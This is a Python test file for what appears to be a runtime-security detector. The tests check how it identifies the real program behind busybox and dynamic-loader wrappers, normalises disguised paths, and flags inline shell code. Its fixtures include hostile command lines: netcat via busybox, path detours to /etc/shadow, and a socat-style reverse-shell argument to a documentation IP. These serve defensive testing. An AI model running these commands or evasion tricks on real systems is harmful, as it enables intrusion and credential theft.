"""Names behind loaders, applets, copies and paths."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from periderm.engines.runtime import programs


@pytest.mark.parametrize(
    ("exe", "argv", "name"),
    [
        ("/bin/sh", ("sh",), "sh"),
        ("/bin/busybox", ("wget", "x"), "wget"),
        ("/bin/busybox", ("/bin/busybox", "/bin/nc"), "nc"),
        ("/bin/busybox", ("busybox",), "busybox"),
        ("/bin/busybox", (), "busybox"),
        ("/lib64/ld-linux-x86-64.so.2", ("ld.so", "--argv0", "a", "--inhibit-cache", "/bin/id"), "id"),
        ("/lib/ld-musl-aarch64.so.1", ("ld", "/bin/busybox", "sh"), "sh"),
        ("/lib/ld-2.31.so", ("ld", "/lib/ld-2.31.so", "/bin/cat"), "cat"),
        ("/lib64/ld-linux-x86-64.so.2", ("ld.so", "--list"), "ld-linux-x86-64.so.2"),
        ("/usr/bin/x (deleted)", ("x",), "x"),
        ("", (), ""),
    ],
)
def test_a_command_is_what_really_runs(exe: str, argv: tuple[str, ...], name: str) -> None:
    """Not the file that was started, but the program that does the work."""
    assert programs.command(exe, argv).name == name


@pytest.mark.parametrize(
    ("argv", "script"),
    [
        (("bash", "/x.sh"), "/x.sh"),
        (("bash", "-x", "/x.sh"), "/x.sh"),
        (("bash", "--norc", "/x.sh"), "/x.sh"),
        (("bash", "-c", "/x.sh"), ""),
        (("bash", "-xec", "/x.sh"), ""),
        (("bash", "-i"), ""),
        (("bash",), ""),
    ],
)
def test_the_script_of_a_shell(argv: tuple[str, ...], script: str) -> None:
    """What it reads, if it is a file."""
    assert programs.script(programs.command("/bin/bash", argv)) == script


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/tmp/../etc//shadow", "/etc/shadow"),
        ("//etc/shadow", "/etc/shadow"),
        ("/proc/self/root/etc/shadow", "/etc/shadow"),
        ("/proc/1/root/proc/2/root/x", "/x"),
        ("/proc/self/root/", "/proc/self/root"),
        ("x/../y", "x/../y"),
        ("", ""),
    ],
)
def test_paths_without_detours(path: str, expected: str) -> None:
    """Ways of writing a path that lead to the same file."""
    assert programs.normal(path) == expected


@given(st.text(max_size=40))
def test_normal_is_done_after_once(path: str) -> None:
    """Whatever the text, normalising again changes nothing, and an absolute path stays one."""
    once = programs.normal(path)
    assert programs.normal(once) == once
    assert once.startswith("/") == path.startswith("/")


@given(st.text(max_size=20), st.lists(st.text(max_size=10), max_size=6))
def test_any_command_line_has_an_answer(exe: str, argv: list[str]) -> None:
    """Hostile names and arguments never break the reading of them."""
    what = programs.command(exe, tuple(argv))
    assert isinstance(programs.script(what), str)
    assert isinstance(programs.server(exe, tuple(argv)), str)
    assert programs.is_shell(what) in (True, False)


def test_interpreters_by_version() -> None:
    """python3.11 is Python; a name that only begins so is not."""
    assert programs.interpreter("python3.11") == "python"
    assert programs.interpreter("php-cgi8.2") == ""
    assert programs.interpreter("php8.2") == "php"
    assert programs.interpreter("perlbug") == ""


def test_a_database_that_is_being_made_serves_nobody() -> None:
    """initdb runs the server's program by itself; started as a server it is one."""
    exe = "/usr/lib/postgresql/15/bin/postgres"
    assert programs.server(exe, ("postgres", "--single", "-F")) == ""
    assert programs.server(exe, ("postgres", "-D", "/data")) == "postgres"


@pytest.mark.parametrize(
    ("exe", "argv", "runs"),
    [
        ("/usr/bin/python3.11", ("python3", "/app/main.py", "--port", "80"), True),
        ("/usr/bin/dash", ("sh", "/app/health.sh"), True),
        ("/lib64/ld-linux-x86-64.so.2", ("ld.so", "/usr/bin/dash", "/app/health.sh"), True),
        ("/usr/bin/dash", ("sh", "-c", "id"), False),
        ("/usr/bin/dash", ("sh", "-s", "/app/x"), False),
        ("/usr/bin/dash", ("sh",), False),
        ("/usr/bin/python3.11", ("python3", "/dev/stdin"), False),
        ("/usr/bin/python3.11", ("python3", "-m", "http.server"), False),
        ("/opt/sh", ("sh", "TCP:198.51.100.7:443", "EXEC:bash -li"), False),
        ("/usr/bin/nginx", ("nginx", "/etc/nginx.conf"), False),
    ],
)
def test_a_script_that_is_a_file_is_told_from_code(exe: str, argv: tuple[str, ...], runs: bool) -> None:
    """Only then a command line cannot be code; a relay under a shell's name is not believed."""
    assert programs.runs_file(exe, argv) is runs
